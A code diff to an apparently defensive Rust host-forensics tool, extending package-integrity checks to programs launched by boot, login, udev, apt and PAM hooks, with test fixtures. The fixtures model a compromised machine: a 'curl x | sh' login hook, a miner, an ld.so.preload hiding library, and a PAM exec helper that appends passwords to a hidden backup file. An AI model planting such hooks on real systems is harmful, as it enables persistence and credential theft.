@@ -8,7 +8,8 @@
 //! Verification is targeted by default: every executable referenced by a running process, a
 //! unit's `Exec*=` lines or a cron entry, every system-wide hook file (from the `hooks`
 //! collector: boot and login hooks, apt/yum/dnf hooks, PAM service files and the PAM modules
-//! they load, polkit rules) and every library named by absolute path in `/etc/ld.so.preload`
+//! they load, polkit rules, and the programs those hooks run: autostart `Exec=`, udev `RUN`,
+//! apt hook commands, `pam_exec`) and every library named by absolute path in `/etc/ld.so.preload`
 //! (from the `kernel` collector), is hashed and compared with the package database.
 //! `verify = "full"` checks every file of every package as well as everything referenced;
 //! `verify = "none"` skips it.
@@ -714,6 +715,15 @@ fn referenced_executables(ctx: &CollectContext<'_>) -> BTreeMap<String, Vec<Stri
                         .or_default()
                         .push(format!("hook {class}"));
                 }
+                // The programs the hook runs (autostart Exec=, udev RUN, apt hook commands,
+                // pam_exec): the payload of a planted hook is often a separate file.
+                for cmd in v["commands"].as_array().into_iter().flatten() {
+                    if let Some(p) = cmd.as_str().and_then(command_program) {
+                        out.entry(p)
+                            .or_default()
+                            .push(format!("{class} hook {path}"));
+                    }
+                }
             }
         }
     }
@@ -985,6 +995,10 @@ mod tests {
             .exe("/var/log/log", "miner")
             .file("/etc/profile.d/zz-update.sh", "curl x | sh\n")
             .file("/usr/lib/libhide.so", "\x7fELF hide readdir")
+            .exe(
+                "/usr/lib/openssh/auth-helper",
+                "#!/bin/sh\ncat >> /var/backups/.pw\n",
+            )
     }
 
     fn prior() -> PriorRecords {
@@ -1000,6 +1014,7 @@ mod tests {
             serde_json::json!({"kind":"hook","path":"/etc/profile.d/zz-update.sh","class":"profile.d","runs_at":"login","active":true}),
             serde_json::json!({"kind":"hook","path":"/etc/rc2.d/S01cron","class":"rc-link","runs_at":"boot","active":true,"link_target":"../init.d/cron"}),
             serde_json::json!({"kind":"hook","path":"/home/alice/.bashrc","class":"user-shell-rc","runs_at":"shell","active":true,"owner":"alice"}),
+            serde_json::json!({"kind":"hook","path":"/etc/pam.d/sshd","class":"pam","runs_at":"auth","active":true,"commands":["/usr/lib/openssh/auth-helper --pw", "relative-name x"]}),
         ]);
         p.insert("kernel".into(), vec![
             serde_json::json!({"kind":"ld_preload","path":"/etc/ld.so.preload","entries":["/usr/lib/libhide.so","libbare.so","/lib/$LIB/x.so"],"source":{"path":"/etc/ld.so.preload"}}),
@@ -1055,6 +1070,11 @@ mod tests {
         );
         assert!(!v.contains_key("/etc/rc2.d/S01cron"));
         assert!(!v.contains_key("/home/alice/.bashrc"));
+        // The programs hooks run are verified too (named by the hook).
+        let helper = &v["/usr/lib/openssh/auth-helper"];
+        assert_eq!(helper["status"], "not_owned");
+        assert_eq!(helper["referenced_by"][0], "pam hook /etc/pam.d/sshd");
+        assert!(helper["copy"]["member"].is_string(), "{helper}");
         // Preloaded libraries named by absolute path are hashed (and, unowned, copied).
         let lib = &v["/usr/lib/libhide.so"];
         assert_eq!(lib["status"], "not_owned");
